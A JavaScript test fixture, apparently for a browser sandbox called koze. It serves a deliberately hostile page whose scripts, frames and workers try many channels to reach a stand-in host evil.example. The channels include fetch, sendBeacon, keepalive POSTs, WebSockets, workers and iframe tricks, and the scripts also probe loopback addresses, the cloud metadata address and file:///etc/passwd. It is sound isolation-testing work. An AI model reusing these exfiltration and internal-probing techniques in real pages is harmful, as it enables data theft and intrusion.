// A site whose pages try to reach `evil.example`, in every way that koze knows. It answers for every host. `control.example` tells
// what it was asked, and ends browsers.

import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createSecureServer } from "node:https";
import { createServer as createPlainServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";

const HTML = { "content-type": "text/html; charset=utf-8" };
const SCRIPT = { "content-type": "text/javascript" };
/** The texts of the site for pages with or without TLS. @param {boolean} tls */
function texts(tls) {
const [GOOD, OTHER, EVIL] = ["good", "other", "evil"].map((name) => `http${tls ? "s" : ""}://${name}.example`);
const SOCKET = `ws${tls ? "s" : ""}://evil.example`;

/** What runs in a worker. @param {string} name */
const worker = (name) => `
  fetch("${EVIL}/from-${name}").catch(() => {});
  try { importScripts("${EVIL}/import-${name}") } catch {}
  try { new WebSocket("${SOCKET}/socket-${name}") } catch {}
  try { new WebSocketStream("${SOCKET}/stream-${name}") } catch {}
  if (typeof WebTransport === "function") fetch("${GOOD}/leak-WebTransport-${name}");
  if (typeof RTCPeerConnection === "function") fetch("${GOOD}/leak-RTCPeerConnection-${name}");
  fetch("${GOOD}/ran-${name}");`;

const script = (/** @type {string} */ text) => `<script>${text}</scr` + "ipt>";
const nested = (/** @type {string} */ text) => JSON.stringify(script(text)).replaceAll("</", "<\\/");

/** A page with parts of other hosts. */
const PAGE = `<!DOCTYPE html><title>hostile</title>
<img src="${EVIL}/image"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="preload" as="image" href="${EVIL}/preload">
<link rel="stylesheet" href="${EVIL}/style"><video src="${EVIL}/video" autoplay></video><object data="${EVIL}/object"></object>
<embed src="${EVIL}/embed"><script src="${EVIL}/script"></script>
<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/speculated"],"eagerness":"immediate"}],
  "prerender":[{"urls":["/frame?prerender"],"eagerness":"immediate"}]}</script>
<iframe src="${OTHER}/frame?other"></iframe><iframe src="/to/${EVIL}/redirected"></iframe>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc='<img src="${EVIL}/srcdoc">'></iframe>
${script(`
  const failed = [];
  const attempt = (run) => { try { run() } catch (error) { failed.push(String(error)) } };
  for (const host of ["evil.example", "127.0.0.1", "[::1]", "169.254.169.254", "10.0.0.1", "localhost", "2130706433"]) {
    fetch("${tls ? "https" : "http"}://" + host + "/evil-fetch", { mode: "no-cors" }).catch(() => {});
    fetch("/to/${tls ? "https" : "http"}://" + host + "/evil-redirected").catch(() => {});
    new Image().src = "${tls ? "https" : "http"}://" + host + "/evil-image";
  }
  for (const url of ["file:///etc/passwd", "chrome://version/", "ftp://evil.example/"]) {
    fetch(url).catch(() => {});
    attempt(() => { const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame); });
  }
  fetch("${EVIL}/keepalive", { keepalive: true, method: "POST", body: "x", mode: "no-cors" }).catch(() => {});
  fetch("${EVIL}/preflight", { method: "PUT", headers: { "x-mine": "1" } }).catch(() => {});
  navigator.sendBeacon("${EVIL}/beacon", "x");
  attempt(() => new EventSource("${EVIL}/events"));
  for (const url of ["${SOCKET}/socket", "${tls ? "wss" : "ws"}://" + location.host + "/socket-evil"]) attempt(() => {
    const socket = new WebSocket(url);
    socket.onopen = () => fetch("/leak-open");
    socket.onclose = () => fetch("/ran-close");
  });
  for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection", "WebTransport", "WebSocketStream"]) {
    if (typeof globalThis[name] === "function") fetch("/leak-" + name);
  }
  new Worker("/worker.js?worker");
  new Worker("/worker.js?nesting");
  new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker("blob"))}])));
  attempt(() => new SharedWorker("/worker.js?shared"));
  // These need TLS.
  if (isSecureContext) {
    attempt(() => navigator.serviceWorker.register("/worker.js?service"));
    attempt(() => CSS.paintWorklet.addModule("${EVIL}/worklet").catch(() => {}));
  }
  if (open("${EVIL}/window") !== null) fetch("/leak-window");
  attempt(() => {
    const link = Object.assign(document.createElement("a"), { href: "${EVIL}/linked", ping: "${EVIL}/ping", target: "_blank" });
    document.body.append(link);
    link.click();
    const form = Object.assign(document.createElement("form"), { action: "${EVIL}/form", method: "POST", target: "other" });
    document.body.append(form);
    form.submit();
  });
  // Realms of their own.
  const frame = (set) => attempt(() => { const one = document.createElement("iframe"); set?.(one); document.body.append(one); return one; });
  attempt(() => { const one = document.createElement("iframe"); document.body.append(one);
    if (typeof one.contentWindow.RTCPeerConnection === "function") fetch("/leak-frame");
    new one.contentWindow.WebSocket("${SOCKET}/socket-frame");
    one.contentWindow.eval('new WebSocket("${SOCKET}/socket-eval")');
    one.src = 'javascript:new WebSocket("${SOCKET}/socket-url")'; });
  attempt(() => { const one = document.createElement("iframe"); document.body.append(one); one.contentDocument.open();
    one.contentDocument.write(${nested(`new WebSocket("${SOCKET}/socket-written")`)}); one.contentDocument.close(); });
  frame((one) => { one.srcdoc = ${nested(`new WebSocket("${SOCKET}/socket-srcdoc")`)}; });
  frame((one) => { one.src = URL.createObjectURL(new Blob([${nested(`new WebSocket("${SOCKET}/socket-blob")`)}], { type: "text/html" })); });
  frame((one) => { one.sandbox = "allow-scripts"; one.src = "data:text/html," + ${nested(`new WebSocket("${SOCKET}/socket-data")`)}; });
  document.body.dataset.failed = failed.join("; ");
`)}`;

const FRAME = `<!DOCTYPE html><img src="${EVIL}/from-frame"><iframe src="${EVIL}/in-frame"></iframe>
${script(`fetch("${EVIL}/fetch-frame").catch(() => {}); try { new WebSocket("${SOCKET}/socket-in-frame") } catch {} fetch("/ran-frame");`)}`;

/** A page that goes on after a call. */
const LATER = `<!DOCTYPE html><title>later</title>${script(`setInterval(() => fetch("/tick"), 100); setInterval(() => new Image().src = "${EVIL}/later", 100)`)}`;

return { worker, PAGE, FRAME, LATER };
}

/** Creates a certificate, which no one trusts. */
function certificate() {
  const directory = mkdtempSync(join(tmpdir(), "koze-site-"));
  const [key, cert] = [join(directory, "key.pem"), join(directory, "cert.pem")];
  const how = ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=good.example"];
  try {
    execFileSync("openssl", [...how, "-keyout", key, "-out", cert], { stdio: "ignore" });
    return { key: readFileSync(key), cert: readFileSync(cert) };
  } finally {
    rmSync(directory, { recursive: true });
  }
}

/**
 * Starts the site. Returns its URL.
 *
 * @param {() => import("./browsers.mjs").Browsers} browsers
 */
export async function site(browsers) {
  /** @type {string[]} */
  let asked = [];
  /** @type {Record<string, () => unknown>} */
  const control = {
    "/asked": () => asked.splice(0),
    "/binding": () => browsers().asked.splice(0),
    "/sessions": () => browsers().sessions.length,
    "/end": () => browsers().end(),
    "/refuse": () => (browsers().refuses = 429),
    "/allow": () => (browsers().refuses = 0),
  };
  const both = [texts(false), texts(true)];
  const answer = (/** @type {import("node:http").IncomingMessage} */ request, /** @type {import("node:http").ServerResponse} */ response) => {
    const { worker, PAGE, FRAME, LATER } = both["encrypted" in request.socket ? 1 : 0];
    const host = request.headers.host ?? "";
    const path = request.url ?? "/";
    if (host === "control.example") {
      response.end(JSON.stringify(control[path]?.() ?? null));
      return;
    }
    asked.push(`${host}${path}`);
    const send = (/** @type {Record<string, string>} */ headers, /** @type {string} */ text) => response.writeHead(200, headers).end(text);
    if (path.startsWith("/to/")) response.writeHead(302, { location: path.slice(4) }).end();
    else if (path === "/page") send(HTML, PAGE);
    else if (path === "/later") send(HTML, LATER);
    else if (path.startsWith("/frame")) send(HTML, FRAME);
    else if (path === "/worker.js?nesting") send(SCRIPT, `${worker("nesting")}; new Worker("/worker.js?nested")`);
    else if (path.startsWith("/worker.js?")) send(SCRIPT, worker(path.split("?")[1] ?? ""));
    else if (path === "/plain") send(HTML, "<!DOCTYPE html><title>plain</title><h1>plain</h1>");
    else send({ "content-type": "text/plain", "access-control-allow-origin": "*" }, "a text");
  };
  const servers = [createServer(answer), createSecureServer(certificate(), answer)];
  for (const server of servers) {
    server.on("upgrade", (request, socket) => {
      asked.push(`SOCKET ${request.headers.host}${request.url}`);
      socket.destroy();
    });
  }
  // Both on one port: a connection with TLS begins with the byte 22.
  const server = createPlainServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (first) => {
      socket.pause();
      socket.unshift(first);
      servers[first[0] === 22 ? 1 : 0].emit("connection", socket);
      process.nextTick(() => socket.resume());
    });
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (server.address()).port}`;
}
